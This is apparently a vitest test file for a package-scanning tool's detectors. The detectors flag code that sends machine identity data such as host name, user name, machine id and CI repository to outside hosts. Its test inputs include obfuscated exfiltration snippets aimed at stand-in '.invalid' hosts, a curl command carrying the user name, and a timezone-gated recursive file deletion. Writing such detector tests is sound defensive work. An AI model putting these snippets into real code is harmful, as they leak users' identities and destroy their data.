import { describe, expect, it } from 'vitest';
import type { Detector, DetectorReport } from '../../../src/analysis/detector.js';
import { encodedListMatch } from '../../../src/analysis/detectors/encoded-list-match.js';
import { fingerprintExfiltration } from '../../../src/analysis/detectors/fingerprint-exfiltration.js';
import { identityTargeting } from '../../../src/analysis/detectors/identity-targeting.js';
import { fileFacts } from '../../../src/analysis/facts/file-facts.js';
import { parse } from '../../../src/analysis/parse.js';
import { walk } from '../../../src/analysis/walk.js';
import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';

const CASES: DetectorCase[] = [
  {
    name: 'disguised sink: a property descriptor of the request function',
    code: "const os = require('os'); const https = require('https');\nObject.getOwnPropertyDescriptor(https, 'get').value('https://c.invalid/?h=' + os.hostname());",
    expect: [{ severity: 'high', line: 2, messageIncludes: 'the call is disguised (a property descriptor)' }],
    twin: { code: "const os = require('os'); const https = require('https');\nObject.getOwnPropertyDescriptor(https, 'get').value('https://c.invalid/?v=' + os.tmpdir());" },
  },
  {
    name: 'disguised sink: a key searched with Object.keys(...).find',
    code: "const os = require('os'); const https = require('https');\nconst m = Object.keys(https).find((k) => k === 'get');\nhttps[m]('https://c.invalid/?h=' + os.hostname());",
    expect: [{ severity: 'high', line: 3, messageIncludes: 'the call is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst m = Object.keys(https).find((k) => k === 'get');\nhttps[m]('https://c.invalid/?v=' + os.endianness());" },
  },
  {
    name: 'disguised sink: Reflect.get of the request function',
    code: "const os = require('os'); const https = require('https');\nReflect.get(https, 'get')('https://c.invalid/?h=' + os.hostname());",
    expect: [{ severity: 'high', line: 2, messageIncludes: 'the call is disguised (Reflect.get)' }],
    twin: { code: "const os = require('os'); const https = require('https');\nReflect.get(https, 'get')('https://c.invalid/?v=' + os.platform());" },
  },
  {
    name: 'disguised sink: .call with the arguments shifted',
    code: "const os = require('os'); const https = require('https');\nhttps.get.call(https, 'https://c.invalid/?u=' + os.userInfo().username);",
    expect: [{ severity: 'high', line: 2, sourceKind: 'user', messageIncludes: 'called through .call' }],
    twin: { code: "const os = require('os'); const https = require('https');\nhttps.get.call(https, 'https://c.invalid/?v=' + os.arch());" },
  },
  {
    name: 'disguised sink: a bound request function',
    code: "const os = require('os'); const https = require('https');\nconst send = https.request.bind(https);\nsend({ host: 'c.invalid', path: '/?h=' + os.hostname() }).end();",
    expect: [{ severity: 'high', line: 3, messageIncludes: 'bound with .bind' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst send = https.request.bind(https);\nsend({ host: 'c.invalid', path: '/?v=' + os.release() }).end();" },
  },
  {
    name: 'disguised: an entry searched with Object.entries(...).find',
    code: "const os = require('os'); const https = require('https');\nconst [, fn] = Object.entries(os).find(([k]) => k === 'hostname'); const host = fn();\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'Object.entries' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst [, fn] = Object.entries(os).find(([k]) => k === 'arch'); const host = fn();\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: entries filtered, the value called through .call',
    code: "const os = require('os'); const https = require('https');\nconst host = Object.entries(os).filter(([k]) => k === 'userInfo')[0][1].call(os).username;\nhttps.get('https://c.invalid/?u=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'user' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Object.entries(os).filter(([k]) => k === 'uptime')[0][1].call(os);\nhttps.get('https://c.invalid/?u=' + host);" },
  },
  {
    name: 'disguised: Reflect.get',
    code: "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'hostname')();\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'platform')();\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: a property descriptor and .call',
    code: "const os = require('os'); const https = require('https');\nconst host = Object.getOwnPropertyDescriptor(os, 'hostname').value.call(os);\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Object.getOwnPropertyDescriptor(os, 'arch').value.call(os);\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: a key searched with Object.keys(...).find',
    code: "const os = require('os'); const https = require('https');\nconst k = Object.keys(os).find((k) => k === 'hostname'); const host = os[k]();\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst k = Object.keys(os).find((k) => k === 'release'); const host = os[k]();\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: a name from char codes and .call',
    code: "const os = require('os'); const https = require('https');\nconst n = String.fromCharCode(104, 111, 115, 116, 110, 97, 109, 101); const host = os[n].call(os);\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst n = String.fromCharCode(97, 114, 99, 104); const host = os[n].call(os);\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: a base64 name and .apply',
    code: "const os = require('os'); const https = require('https');\nconst n = Buffer.from('aG9zdG5hbWU=', 'base64').toString(); const host = os[n].apply(os, []);\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst n = Buffer.from('cGxhdGZvcm0=', 'base64').toString(); const host = os[n].apply(os, []);\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: hex escapes and .bind',
    code: "const os = require('os'); const https = require('https');\nconst get = os['\\x68ostname'].bind(os); const host = get();\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst get = os['\\x74ype'].bind(os); const host = get();\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised: a string variable',
    code: "const os = require('os'); const https = require('https');\nconst name = 'host' + 'name'; const host = os[name]();\nhttps.get('https://c.invalid/?h=' + host);",
    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst name = 'up' + 'time'; const host = os[name]();\nhttps.get('https://c.invalid/?h=' + host);" },
  },
  {
    name: 'disguised sink: the request method named with char codes',
    code: "const os = require('os'); const https = require('https');\nconst m = String.fromCharCode(103, 101, 116);\nhttps[m]('https://c.invalid/?h=' + os.hostname());",
    expect: [{ severity: 'high', line: 3, messageIncludes: 'the call is disguised' }],
    twin: { code: "const os = require('os'); const https = require('https');\nconst m = String.fromCharCode(103, 101, 116);\nhttps[m]('https://c.invalid/?v=' + os.platform());" },
  },
  {
    name: 'an undeclared variable carries the host name to the request',
    code: "const os = require('os'); const http = require('http');\nhost = os.hostname();\nhttp.request({ hostname: 'c.invalid', path: '/x?host=' + host }).end();",
    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname', messageIncludes: 'http.request' }],
    twin: { code: "const os = require('os'); const http = require('http');\nhost = os.hostname(); label = 'build';\nhttp.request({ hostname: 'c.invalid', path: '/x?label=' + label }).end();" },
  },
  {
    name: 'an object filled property by property, stringified into a POST body',
    code: "const os = require('os');\nconst data = {};\ndata.host = os.hostname();\ndata.user = os.userInfo().username;\nfetch('https://c.invalid/collect', { method: 'POST', body: JSON.stringify(data) });",
    expect: [{ severity: 'medium', line: 5, messageIncludes: 'through fetch' }],
    twin: { code: "const os = require('os');\nconst data = {};\ndata.version = '1.0.0';\nconsole.log(os.hostname());\nfetch('https://c.invalid/collect', { method: 'POST', body: JSON.stringify(data) });" },
  },
  {
    name: 'a query string built with querystring',
    code: "const os = require('os'); const qs = require('querystring');\nconst q = qs.stringify({ host: os.hostname() });\nfetch('https://c.invalid/?' + q);",
    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
    twin: { code: "const os = require('os'); const qs = require('querystring');\nconst q = qs.stringify({ v: '1' });\nfetch('https://c.invalid/?' + q); os.hostname();" },
  },
  {
    name: 'URLSearchParams in a template URL',
    code: "const os = require('os');\nconst p = new URLSearchParams({ u: os.userInfo().username });\nfetch(`https://c.invalid/?${p}`);",
    expect: [{ severity: 'medium', sourceKind: 'user' }],
    twin: { code: "const os = require('os');\nconst p = new URLSearchParams({ v: process.version });\nfetch(`https://c.invalid/?${p}`); os.userInfo();" },
  },
  {
    name: 'stored on module.exports and read back',
    code: "const os = require('os');\nmodule.exports.h = os.hostname();\nfetch('https://c.invalid/?h=' + module.exports.h);",
    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
    twin: { code: "const os = require('os');\nmodule.exports.h = os.hostname();\nfetch('https://c.invalid/?v=' + module.exports.version);" },
  },
  {
    name: 'stored on globalThis and read back',
    code: "const os = require('os');\nglobalThis.h = os.hostname();\nfetch('https://c.invalid/?h=' + globalThis.h);",
    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
    twin: { code: "const os = require('os');\nglobalThis.h = os.hostname();\nfetch('https://c.invalid/?v=' + globalThis.version);" },
  },
  {
    name: 'hex-encoded host name as a DNS label',
    code: "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.c.invalid', () => {});",
    expect: [{ severity: 'medium', sourceKind: 'hostname', messageIncludes: 'dns.lookup' }],
    twin: { code: "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from('static').toString('hex');\ndns.lookup(label + '.c.invalid', () => {}); os.hostname();" },
  },
  {
    name: 'host name in a fetch body',
    code: "const os = require('os');\nfetch('https://t.invalid/c', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) });",
    expect: [{ severity: 'medium', line: 2, sourceKind: 'hostname', messageIncludes: 'through fetch' }],
    twin: { code: "const os = require('os');\nconsole.log('host', os.hostname());\nfetch('https://t.invalid/c', { method: 'POST', body: '{}' });" },
  },
  {
    name: 'DNS lookup of a name built from the user',
    code: "const dns = require('dns');\nconst os = require('os');\ndns.lookup(`${os.userInfo().username}.x.invalid`, () => {});",
    expect: [{ severity: 'medium', sourceKind: 'user', messageIncludes: 'dns.lookup' }],
    twin: { code: "const dns = require('dns');\ndns.lookup(`${options.name}.x.invalid`, () => {});" },
  },
  {
    name: 'child process arguments carry the user name',
    code: "const { exec } = require('child_process');\nexec('curl https://x.invalid/?u=' + process.env.USER);",
    expect: [{ severity: 'medium', sourceKind: 'user', messageIncludes: 'child_process.exec' }],
    twin: { code: "const { exec } = require('child_process');\nexec('git status --porcelain');" },
  },
  {
    name: 'network interfaces written to a request made by https.request',
    code: "const https = require('https');\nconst os = require('os');\nconst req = https.request({ host: 'x.invalid', method: 'POST' });\nreq.end(JSON.stringify(os.networkInterfaces()));",
    expect: [{ severity: 'medium', sourceKind: 'network', messageIncludes: 'https.request' }],
    twin: { code: "const https = require('https');\nconst req = https.request({ host: 'x.invalid', method: 'POST' });\nreq.end(JSON.stringify({ ok: true }));" },
  },
  {
    name: 'machine id sent over a WebSocket',
    code: "const fs = require('fs');\nconst ws = new WebSocket('wss://x.invalid');\nws.send(fs.readFileSync('/etc/machine-id', 'utf8'));",
    expect: [{ severity: 'medium', sourceKind: 'machine-id', messageIncludes: 'WebSocket' }],
    twin: { code: "const fs = require('fs');\nconst ws = new WebSocket('wss://x.invalid');\nws.send(fs.readFileSync('./package.json', 'utf8'));" },
  },
  {
    name: "a page's own origin in a beacon is routine (the browser sends it anyway): low",
    code: "navigator.sendBeacon('https://x.invalid/b', location.hostname);",
    expect: [{ severity: 'low', sourceKind: 'hostname' }],
    twin: { code: "navigator.sendBeacon('https://x.invalid/b', 'ping');" },
  },
  {
    name: 'the machine host name in a beacon',
    code: "const os = require('os');\nnavigator.sendBeacon('https://x.invalid/b', os.hostname());",
    expect: [{ severity: 'medium', sourceKind: 'hostname' }],
    twin: { code: "const os = require('os');\nnavigator.sendBeacon('https://x.invalid/b', os.platform());" },
  },
  {
    name: 'interface names passed to a local system tool are routine: low',
    code: "const { execFile } = require('child_process');\nconst os = require('os');\nexecFile(bin, ['-s', Object.keys(os.networkInterfaces())[0]], cb);",
    expect: [{ severity: 'low', sourceKind: 'network' }],
    twin: { code: "const { execFile } = require('child_process');\nexecFile(bin, ['-s', 'eth0'], cb);" },
  },
  {
    name: 'minified: CI identity returned by a helper and sent',
    code: 'function r(){return process.env.GITHUB_REPOSITORY}var o=require("https");o.get("https://x.invalid/?r="+r());',
    expect: [{ severity: 'medium', sourceKind: 'ci' }],
    twin: { code: 'function r(){return process.env.NODE_ENV}var o=require("https");o.get("https://x.invalid/?r="+r());' },
  },
  {
    name: 'timezone in a header is routine: low',
    code: "fetch('https://api.invalid/v1', { headers: { 'x-zone': Intl.DateTimeFormat().resolvedOptions().timeZone } });",
    expect: [{ severity: 'low', sourceKind: 'timezone' }],
    twin: { code: "fetch(process.env.API_BASE_URL + '/v1', { headers: { 'x-zone': 'UTC' } });" },
  },
];

runDetectorCases(fingerprintExfiltration, CASES);

/** The raw reports, which carry the install-time escalation the package analysis applies later. */
function reportsFor(detector: Detector, code: string): DetectorReport[] {
  const outcome = parse(code);
  if (!outcome.ok) throw new Error(outcome.reason);
  const reports: DetectorReport[] = [];
  const visitors = detector.create({
    file: 'case.js',
    source: code,
    program: outcome.program,
    codeKind: 'install',
    codeKindPhrase: 'install-time code',
    reachedFrom: null,
    facts: fileFacts(),
    position: () => ({ line: 1, column: 0 }),
    snippet: () => '',
    report: (report) => reports.push(report),
  });
  walk(outcome.program, (node, ancestors) => {
    for (const handler of [visitors[node.type] ?? []].flat()) handler(node, ancestors);
  });
  visitors['Program:exit']?.(outcome.program);
  return reports;
}

describe('install-time escalation', () => {
  it.each<[string, Detector, string, string]>([
    ['a host name sent away', fingerprintExfiltration, CASES.find((c) => c.name === 'host name in a fetch body')?.code ?? '', 'critical'],
    ['a timezone sent away', fingerprintExfiltration, CASES.find((c) => c.name.startsWith('timezone in a header'))?.code ?? '', 'medium'],
    [
      'targeting that deletes files',
      identityTargeting,
      "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Moscow', 'Europe/Minsk'].includes(z)) require('fs').rmSync('.', { recursive: true });",
      'critical',
    ],
    [
      'targeting that prints',
      identityTargeting,
      "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Moscow', 'Europe/Minsk'].includes(z)) console.log('hi');",
      'high',
    ],
    [
      'targeting only returned',
      identityTargeting,
      "module.exports = () => ['Europe/Moscow', 'Europe/Minsk'].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);",
      'high',
    ],
    [
      'an encoded list gating a send',
      encodedListMatch,
      "const L = atob('RXVyb3BlL01vc2Nvdw==');\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === L) fetch('https://x.invalid');",
      'critical',
    ],
  ])('%s', (_name, detector, code, install) => {
    const reports = reportsFor(detector, code);
    expect(reports).toHaveLength(1);
    expect(reports[0]?.severityByCodeKind?.install).toBe(install);
  });
});

describe('disguised reads in the full rule set', () => {
  it('a disguised read alone is reported one step above a plain read, with how it was hidden', async () => {
    const { DETECTORS } = await import('../../../src/analysis/detectors/index.js');
    const code = "const os = require('os');\nconst n = String.fromCharCode(104, 111, 115, 116, 110, 97, 109, 101);\nconsole.log(os[n]());";
    const outcome = parse(code);
    if (!outcome.ok) throw new Error(outcome.reason);
    const { runDetectors } = await import('../../../src/analysis/run-detectors.js');
    const run = runDetectors({ file: 'a.js', source: code, program: outcome.program, codeKind: 'entry' }, DETECTORS);
    const disguised = run.findings.filter((f) => f.ruleId === 'fingerprint-source' && f.severity === 'low');
    expect(disguised.map((f) => f.message)).toEqual([
      'Reads the host name (os.hostname()) through a disguised access (a name built with char-codes) in entry code',
    ]);
    expect(run.findings.filter((f) => f.ruleId === 'fingerprint-exfiltration')).toEqual([]);
  });

  it('install-time exfiltration through a disguised read is critical', () => {
    const code = "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'hostname')();\nhttps.get('https://c.invalid/?h=' + host);";
    const findings = findingsFor(fingerprintExfiltration, code, 'install');
    expect(findings.map((f) => f.severity)).toEqual(['critical']);
  });
});

describe('environment names in constants are configuration, not disguise', () => {
  it('process.env[NAME] with the name in a constant is read plainly', () => {
    const code = "const NAME = 'HOSTNAME';\nfetch('https://c.invalid/?h=' + process.env[NAME]);";
    const findings = findingsFor(fingerprintExfiltration, code);
    expect(findings.map((f) => [f.severity, f.message])).toEqual([['medium', 'Sends the host name (process.env.HOSTNAME) through fetch.']]);
  });
});
